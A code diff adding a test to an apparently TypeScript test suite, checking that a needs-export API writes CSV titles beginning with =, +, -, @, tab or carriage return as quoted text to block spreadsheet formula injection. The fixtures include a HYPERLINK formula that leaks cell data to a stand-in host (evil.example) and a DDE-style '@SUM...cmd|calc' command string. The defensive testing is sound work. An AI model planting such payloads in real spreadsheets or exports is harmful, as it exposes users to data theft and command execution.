@@ -80,6 +80,27 @@ describe('needs export', () => {
     expect(refused.statusCode).toBe(400);
   });
 
+  it('writes titles a spreadsheet would run as formulas into the CSV as text (OWASP CSV injection)', async () => {
+    const buyer = await register(ctx.app);
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Подробнее")';
+    const titles = [hyperlink, '+7 495 насос', '-40 °C уплотнитель', '@SUM(1+1)*cmd|calc'];
+    for (const title of titles) await postNeed(ctx.app, buyer.token, { title });
+    // The API trims text; rows written otherwise (older data, SQL) may still start with a tab or a CR.
+    for (const title of ['\tТабуляция', '\rВозврат каретки']) {
+      const { id } = await postNeed(ctx.app, buyer.token, { title: 'временно' });
+      await ctx.database.pool.query('UPDATE needs SET title = $2 WHERE id = $1', [id, title]);
+    }
+
+    const csv = await download(buyer.token, `/needs/export?buyer=${buyer.organizationId}&format=csv`);
+    expect(csv.statusCode).toBe(200);
+    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Подробнее"")"`);
+    const [, ...records]: string[][] = parse(csv.rawPayload, { bom: true, delimiter: ';' });
+    expect(records.map((record) => record[0]).sort()).toEqual(
+      [...titles, '\tТабуляция', '\rВозврат каретки'].map((title) => `'${title}`).sort(),
+    );
+    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
   it('exports in a form that imports back', async () => {
     const buyer = await register(ctx.app);
     await postNeed(ctx.app, buyer.token, { publish: true, title: 'Фильтр масляный', replaces: 'MANN W 712' });
